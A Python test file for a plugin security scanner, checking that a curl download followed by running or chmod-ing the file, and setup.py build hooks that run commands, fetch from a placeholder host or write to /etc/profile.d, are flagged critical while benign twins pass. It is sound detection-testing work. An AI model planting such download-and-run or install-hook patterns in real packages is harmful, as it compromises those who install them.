"""Round-seven engine classes, each with a malicious sample and a benign twin.

Precision first: a download is download-and-execute only when something runs, loads or makes the saved
file executable (a named tool such as ``curl`` saving data runs only itself); a setup.py command class
is critical only when its code does something dangerous (network, processes, code from data, secrets,
writes outside the build tree). Samples are inert strings; hosts are ``*.invalid`` or 127.0.0.1.
"""


from __future__ import annotations

from collections.abc import Mapping

from automatos.kernel.types import ScanFinding, Severity
from tests.scanning.conftest import scan

C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW


def _hits(files: dict[str, str], rule: str, perms: Mapping[str, object] | None = None) -> list[ScanFinding]:
    return [f for f in scan(files, perms).findings if f.rule == rule]


# -- a declared downloader saving data is not download-and-execute ---------------------------------

CURL_SAVE = """\
import os
import subprocess
def fetch(name, storage):
    dest = os.path.join(storage, name + ".csv")
    subprocess.run(["curl", "-fsSL", "-o", dest, "https://data.example.invalid/" + name + ".csv"], check=True)
    return dest
"""
CURL_PERMS = {"subprocess": ["curl"], "network": ["data.example.invalid"]}


def test_a_declared_curl_saving_data_is_safe() -> None:
    report = scan({"plug/__init__.py": CURL_SAVE}, CURL_PERMS)
    assert [f for f in report.findings if f.rule == "download-exec"] == []
    assert report.risk_score < 20


def test_a_curl_download_then_run_is_download_exec() -> None:
    for runner in ('subprocess.run(["sh", dest])', "subprocess.run([dest])", "os.chmod(dest, 0o755)"):
        source = CURL_SAVE.replace("    return dest", f"    {runner}\n    return dest")
        hits = _hits({"plug/__init__.py": source}, "download-exec", CURL_PERMS)
        assert [(f.severity, f.line) for f in hits] == [(C, 5)], runner


# -- setup.py command classes: dangerous code vs a version file ------------------------------------

SETUP_VERSION = """\
from pathlib import Path
from setuptools import setup
from setuptools.command.build_py import build_py
VERSION = "2.0.1"
class BuildWithVersion(build_py):
    def run(self):
        Path("pkg/_version.py").write_text(f'__version__ = "{VERSION}"\\n')
        super().run()
setup(name="pkg", version=VERSION, cmdclass={"build_py": BuildWithVersion})
"""


def test_a_command_class_writing_a_version_file_is_low_and_safe() -> None:
    report = scan({"setup.py": SETUP_VERSION, "plug/__init__.py": "X = 1\n"})
    hooks = [f for f in report.findings if f.rule == "install-hook"]
    assert [(f.severity, f.line) for f in hooks] == [(L, 5)]
    assert report.risk_score < 20


def test_a_command_class_doing_something_dangerous_is_critical() -> None:
    dangerous = (
        'import os\n        os.system("id")',
        'import urllib.request\n        urllib.request.urlopen("https://x.invalid/p")',
        'open("/etc/profile.d/p.sh", "w").write("x")',
        "helper()",
    )
    for body in dangerous:
        source = SETUP_VERSION.replace(
            '        Path("pkg/_version.py")', f"        {body}\n        Path(\"pkg/_version.py\")"
        )
        source += 'def helper():\n    import subprocess\n    subprocess.run(["id"])\n'
        report = scan({"setup.py": source, "plug/__init__.py": "X = 1\n"})
        hooks = [f for f in report.findings if f.rule == "install-hook"]
        assert [f.severity for f in hooks] == [C], body
        assert report.verdict.value == "blocked", body
